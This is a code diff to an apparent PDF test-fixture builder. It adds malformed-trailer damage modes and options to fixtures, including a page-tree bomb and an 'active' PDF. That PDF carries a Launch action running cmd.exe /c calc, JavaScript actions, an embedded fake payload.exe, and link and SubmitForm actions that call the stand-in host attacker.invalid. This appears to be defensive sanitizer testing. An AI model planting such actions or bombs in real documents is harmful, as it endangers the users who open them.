@@ -16,8 +16,14 @@ export type PdfObject = string | PdfStream;
 export interface PdfWriteOptions {
   /** Object number of the catalog (default 1). */
   root?: number;
-  /** `wrong-offsets`: every xref offset off by 7 bytes; `missing`: no xref table or startxref. */
-  damage?: 'wrong-offsets' | 'missing';
+  /**
+   * `wrong-offsets`: every xref offset off by 7 bytes; `missing`: no xref table or startxref;
+   * `no-root`: a trailer without /Root; `dangling-root`: /Root names an object the file lacks;
+   * `unterminated-trailer`: the trailer dictionary ends with the file, without `>>` or startxref.
+   */
+  damage?: 'wrong-offsets' | 'missing' | 'no-root' | 'dangling-root' | 'unterminated-trailer';
+  /** Bytes before `%PDF-` (readers look for the header in the first kilobyte). */
+  junkBefore?: Uint8Array;
 }
 
 export function stream(dict: string, data: Uint8Array | string): PdfStream {
@@ -31,8 +37,10 @@ export function deflatedStream(dict: string, data: Uint8Array | string): PdfStre
 
 /** Writes objects 1..n (index 0 is object 1) with a classic xref table. */
 export function writePdf(objects: readonly PdfObject[], options: PdfWriteOptions = {}): Uint8Array {
-  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
-  let length = parts[0]!.length;
+  const junk = Buffer.from(options.junkBefore ?? []);
+  const parts: Buffer[] = [junk, Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
+  // Offsets count from the header, as the writers that prepend junk leave them.
+  let length = parts[1]!.length;
   const offsets: number[] = [];
   const push = (part: Buffer) => {
     parts.push(part);
@@ -53,7 +61,12 @@ export function writePdf(objects: readonly PdfObject[], options: PdfWriteOptions
       push(Buffer.from('\nendstream\nendobj\n', 'latin1'));
     }
   });
-  const trailer = `trailer\n<< /Size ${objects.length + 1} /Root ${options.root ?? 1} 0 R >>\n`;
+  const root =
+    {
+      'no-root': '',
+      'dangling-root': ` /Root ${objects.length + 5} 0 R`,
+    }[options.damage as string] ?? ` /Root ${options.root ?? 1} 0 R`;
+  const trailer = `trailer\n<< /Size ${objects.length + 1}${root} >>\n`;
   if (options.damage === 'missing') {
     push(Buffer.from(`${trailer}%%EOF\n`, 'latin1'));
     return Buffer.concat(parts);
@@ -61,12 +74,12 @@ export function writePdf(objects: readonly PdfObject[], options: PdfWriteOptions
   const shift = options.damage === 'wrong-offsets' ? 7 : 0;
   const xrefAt = length;
   const rows = offsets.map((o) => `${String(o + shift).padStart(10, '0')} 00000 n \n`).join('');
-  push(
-    Buffer.from(
-      `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${rows}${trailer}startxref\n${xrefAt}\n%%EOF\n`,
-      'latin1',
-    ),
-  );
+  const table = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${rows}`;
+  if (options.damage === 'unterminated-trailer') {
+    push(Buffer.from(`${table}${trailer.slice(0, -4)}\n`, 'latin1'));
+    return Buffer.concat(parts);
+  }
+  push(Buffer.from(`${table}${trailer}startxref\n${xrefAt}\n%%EOF\n`, 'latin1'));
   return Buffer.concat(parts);
 }
 
@@ -113,7 +126,7 @@ export function buildManyPagePdf(pages: number): Uint8Array {
  * A page tree whose 200 intermediate nodes each list the same page 200 times: 40,000 page
  * references to one page object, a few hundred kilobytes.
  */
-export function buildPageTreeBombPdf(): Uint8Array {
+export function buildPageTreeBombPdf(options: PdfWriteOptions = {}): Uint8Array {
   const nodes = 200;
   const perNode = 200;
   const pageNumber = 3 + nodes + 1;
@@ -130,7 +143,7 @@ export function buildPageTreeBombPdf(): Uint8Array {
     `<< /Type /Page /Parent 3 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 ${pageNumber - 1} 0 R >> >> /Contents ${pageNumber + 1} 0 R >>`,
     stream('', textContent(['One page, forty thousand times'])),
   );
-  return writePdf(objects);
+  return writePdf(objects, options);
 }
 
 /**
@@ -271,30 +284,33 @@ export function buildPageSizePdf(width: number, height: number): Uint8Array {
  * link, a SubmitForm widget, a file attachment (annotation and Names/EmbeddedFiles), XFA, and a
  * filled text field whose appearance reads "Field value Ada".
  */
-export function buildActivePdf(): Uint8Array {
+export function buildActivePdf(options: PdfWriteOptions = {}): Uint8Array {
   const js = (code: string) => `<< /Type /Action /S /JavaScript /JS (${code}) >>`;
-  return writePdf([
-    /* 1 */ `<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA << /WC ${js('app.alert(2)')} >> /Names << /JavaScript 7 0 R /EmbeddedFiles 9 0 R >> /AcroForm << /Fields [13 0 R] /XFA 16 0 R /NeedAppearances false >> >>`,
-    /* 2 */ '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
-    /* 3 */ `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R /AA << /O ${js('app.alert(3)')} >> /Annots [10 0 R 11 0 R 12 0 R 13 0 R 14 0 R 15 0 R] >>`,
-    /* 4 */ stream('', textContent(['Visible statement text stays'])),
-    /* 5 */ FONT,
-    /* 6 */ js('app.alert(1)'),
-    /* 7 */ `<< /Names [(init) ${js('app.alert(4)')}] >>`,
-    /* 8 */ stream('/Type /EmbeddedFile', 'MZ pretend executable'),
-    /* 9 */ '<< /Names [(payload.exe) << /Type /Filespec /F (payload.exe) /UF (payload.exe) /EF << /F 8 0 R >> >>] >>',
-    /* 10 */ '<< /Type /Annot /Subtype /Link /Rect [72 600 300 620] /Border [0 0 0] /A << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >> >>',
-    /* 11 */ '<< /Type /Annot /Subtype /Link /Rect [72 570 300 590] /Border [0 0 0] /A << /S /URI /URI (http://attacker.invalid/track) >> >>',
-    /* 12 */ `<< /Type /Annot /Subtype /Link /Rect [72 540 300 560] /Border [0 0 0] /A ${js('app.alert(5)')} >>`,
-    /* 13 */ '<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (Field value Ada) /Rect [72 480 300 500] /P 3 0 R /F 4 /AP << /N 17 0 R >> /AA << /K << /S /JavaScript /JS (app.alert(6)) >> >> >>',
-    /* 14 */ '<< /Type /Annot /Subtype /FileAttachment /Rect [72 440 90 460] /FS << /Type /Filespec /F (note.exe) /EF << /F 8 0 R >> >> >>',
-    /* 15 */ '<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (send) /Rect [72 400 150 420] /P 3 0 R /A << /S /SubmitForm /F << /FS /URL /F (http://attacker.invalid/submit) >> >> >>',
-    /* 16 */ stream('', '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template/></xdp:xdp>'),
-    /* 17 */ stream(
-      '/Type /XObject /Subtype /Form /BBox [0 0 228 20] /Resources << /Font << /F1 5 0 R >> >>',
-      '/Tx BMC BT /F1 12 Tf 2 5 Td (Field value Ada) Tj ET EMC',
-    ),
-  ]);
+  return writePdf(
+    [
+      /* 1 */ `<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA << /WC ${js('app.alert(2)')} >> /Names << /JavaScript 7 0 R /EmbeddedFiles 9 0 R >> /AcroForm << /Fields [13 0 R] /XFA 16 0 R /NeedAppearances false >> >>`,
+      /* 2 */ '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
+      /* 3 */ `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R /AA << /O ${js('app.alert(3)')} >> /Annots [10 0 R 11 0 R 12 0 R 13 0 R 14 0 R 15 0 R] >>`,
+      /* 4 */ stream('', textContent(['Visible statement text stays'])),
+      /* 5 */ FONT,
+      /* 6 */ js('app.alert(1)'),
+      /* 7 */ `<< /Names [(init) ${js('app.alert(4)')}] >>`,
+      /* 8 */ stream('/Type /EmbeddedFile', 'MZ pretend executable'),
+      /* 9 */ '<< /Names [(payload.exe) << /Type /Filespec /F (payload.exe) /UF (payload.exe) /EF << /F 8 0 R >> >>] >>',
+      /* 10 */ '<< /Type /Annot /Subtype /Link /Rect [72 600 300 620] /Border [0 0 0] /A << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >> >>',
+      /* 11 */ '<< /Type /Annot /Subtype /Link /Rect [72 570 300 590] /Border [0 0 0] /A << /S /URI /URI (http://attacker.invalid/track) >> >>',
+      /* 12 */ `<< /Type /Annot /Subtype /Link /Rect [72 540 300 560] /Border [0 0 0] /A ${js('app.alert(5)')} >>`,
+      /* 13 */ '<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (Field value Ada) /Rect [72 480 300 500] /P 3 0 R /F 4 /AP << /N 17 0 R >> /AA << /K << /S /JavaScript /JS (app.alert(6)) >> >> >>',
+      /* 14 */ '<< /Type /Annot /Subtype /FileAttachment /Rect [72 440 90 460] /FS << /Type /Filespec /F (note.exe) /EF << /F 8 0 R >> >> >>',
+      /* 15 */ '<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (send) /Rect [72 400 150 420] /P 3 0 R /A << /S /SubmitForm /F << /FS /URL /F (http://attacker.invalid/submit) >> >> >>',
+      /* 16 */ stream('', '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template/></xdp:xdp>'),
+      /* 17 */ stream(
+        '/Type /XObject /Subtype /Form /BBox [0 0 228 20] /Resources << /Font << /F1 5 0 R >> >>',
+        '/Tx BMC BT /F1 12 Tf 2 5 Td (Field value Ada) Tj ET EMC',
+      ),
+    ],
+    options,
+  );
 }
 
 /** `pdf` encrypted by qpdf (AES-256) with this user password ('' opens without one). */
